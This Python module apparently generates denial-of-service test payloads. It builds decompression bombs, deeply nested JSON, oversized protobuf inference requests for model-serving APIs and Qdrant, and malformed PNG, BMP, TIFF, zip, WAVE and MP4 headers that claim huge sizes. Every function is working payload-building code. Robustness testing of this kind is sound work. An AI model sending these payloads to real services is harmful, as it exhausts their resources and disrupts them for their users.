"""Small bodies that become large. Each function returns the bytes of one kind of bomb."""

import functools
import gzip
import io
import json
import struct
import zipfile
import zlib

MIB = 1 << 20
EMPTY_ELEMENTS = 33_000_000


def packed(piece: bytes, times: int) -> bytes:
    """Compresses repeated copies of `piece` with gzip as a stream."""
    out = io.BytesIO()
    block = piece * max(1, MIB // len(piece))
    whole, rest = divmod(times, len(block) // len(piece))
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=6, mtime=0) as stream:
        for _ in range(whole):
            stream.write(block)
        stream.write(piece * rest)
    return out.getvalue()


# ---- protobuf


def varint(value: int) -> bytes:
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def field(number: int, content: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(content)) + content


def tensor_of_empty_strings(count: int) -> bytes:
    """Returns a ModelInferRequest with one input whose contents are `count` empty strings."""
    contents = b"\x42\x00" * count
    tensor = field(1, b"x") + field(2, b"BYTES") + b"\x1a" + varint(len(varint(count))) + varint(count) + field(5, contents)
    return field(1, b"half_plus_two") + field(5, tensor)


def empty_inputs(count: int) -> bytes:
    """Returns a ModelInferRequest of `count` empty inputs."""
    return field(1, b"half_plus_two") + b"\x2a\x00" * count


def empty_parameters(count: int) -> bytes:
    """Returns a ModelInferRequest of `count` parameters without a name."""
    return field(1, b"half_plus_two") + b"\x22\x00" * count


def empty_raw_contents(count: int) -> bytes:
    """Returns a ModelInferRequest of `count` empty raw contents."""
    return field(1, b"half_plus_two") + b"\x3a\x00" * count


def empty_dims(count: int) -> bytes:
    """Returns a PredictRequest with one tensor of `count` dimensions."""
    tensor = field(2, b"\x12\x00" * count)
    return field(1, field(1, b"half_plus_two")) + field(2, field(1, b"x") + field(2, tensor))


# ---- JSON


@functools.cache
def json_tensor(elements: int) -> bytes:
    """Returns an inference request of `elements` numbers, compressed with gzip. Each takes two bytes before that."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=6, mtime=0) as stream:
        stream.write(b'{"inputs":[{"name":"x","datatype":"FP32","shape":[%d],"data":[' % elements)
        block = b"1," * (MIB // 2)
        whole, rest = divmod(elements - 1, MIB // 2)
        for _ in range(whole):
            stream.write(block)
        stream.write(b"1," * rest + b"1]}]}")
    return out.getvalue()


@functools.cache
def json_instances(elements: int) -> bytes:
    """Returns a predict request of `elements` numbers for TensorFlow Serving's API, compressed with gzip."""
    body = b'{"instances":[' + b"1," * (elements - 1) + b"1]}"
    return gzip.compress(body, 6, mtime=0)


def json_deep(depth: int) -> bytes:
    return b'{"inputs":' + b"[" * depth


def qdrant_points(elements: int) -> bytes:
    """Returns an upsert of one point whose vector has `elements` numbers."""
    body = b'{"points":[{"id":1,"vector":[' + b"1," * (elements - 1) + b"1]}]}"
    return gzip.compress(body, 6, mtime=0)


def qdrant_conditions(count: int) -> bytes:
    some = [{"key": "k", "match": {"value": number}} for number in range(count)]
    return json.dumps({"filter": {"must": some}, "limit": 1}).encode()


# ---- images

PNG_BEGIN = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def zeros(length: int) -> bytes:
    """Returns `length` zero bytes, compressed with zlib."""
    stream, block, out = zlib.compressobj(9), bytes(MIB), []
    for _ in range(length // MIB):
        out.append(stream.compress(block))
    return b"".join([*out, stream.flush()])


def png(width: int, height: int, depth: int = 8, colour: int = 2, extra: bytes = b"", pixels: bytes | None = None) -> bytes:
    channels = {0: 1, 2: 3, 6: 4}[colour]
    row = 1 + width * channels * depth // 8
    data = zlib.compress(bytes(row * height), 9) if pixels is None else pixels
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return PNG_BEGIN + chunk(b"IHDR", header) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def png_profile(inflated: int) -> bytes:
    """Returns a small PNG image with a colour profile that unpacks to `inflated` bytes."""
    return png(8, 8, extra=chunk(b"iCCP", b"p\0\0" + zeros(inflated)))


def png_text(inflated: int) -> bytes:
    return png(8, 8, extra=chunk(b"zTXt", b"t\0\0" + zeros(inflated)))


def png_international_text(inflated: int) -> bytes:
    return png(8, 8, extra=chunk(b"iTXt", b"t\0\1\0\0\0" + zeros(inflated)))


def png_large(side: int) -> bytes:
    """Returns a square PNG image of 16 bits a channel with alpha, which has eight bytes a pixel."""
    row = 1 + side * 8
    return png(side, side, depth=16, colour=6, pixels=zeros(row * side // MIB * MIB + MIB))


def bmp_huge() -> bytes:
    """Returns the header of a BMP image of 2^31 pixels a side."""
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0)


def tiff_huge() -> bytes:
    """Returns the header of a TIFF image that announces 2^32 - 1 strips."""
    entries = [(256, 4, 1, 65_000), (257, 4, 1, 65_000), (258, 3, 1, 8), (262, 3, 1, 1), (273, 4, 2**32 - 1, 8), (278, 4, 1, 1), (279, 4, 2**32 - 1, 8)]
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + body + bytes(4)


def zip_of(name: str, inflated: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w", force_zip64=True) as entry:
        for _ in range(inflated // MIB):
            entry.write(bytes(MIB))
    return out.getvalue()


# ---- audio


def wave_lie() -> bytes:
    """Returns the header of a WAVE file that announces 4 GiB of sound, without any sound."""
    return b"RIFF\xff\xff\xff\xffWAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 65535, 192_000, 2**31, 4, 16) + b"data\xff\xff\xff\xff"


def mp4_tables(entries: int) -> bytes:
    """Boxes whose tables announce far more entries than there are bytes."""
    table = struct.pack(">I", 16) + b"stsz" + struct.pack(">II", 0, 0)
    stbl = b"stsz" + struct.pack(">III", 0, 0, entries)
    boxes = struct.pack(">I", len(stbl) + 4) + stbl + table
    for kind in (b"stbl", b"minf", b"mdia", b"trak", b"moov"):
        boxes = struct.pack(">I", len(boxes) + 8) + kind + boxes
    return struct.pack(">I", 24) + b"ftypM4A \0\0\0\0M4A mp42" + boxes
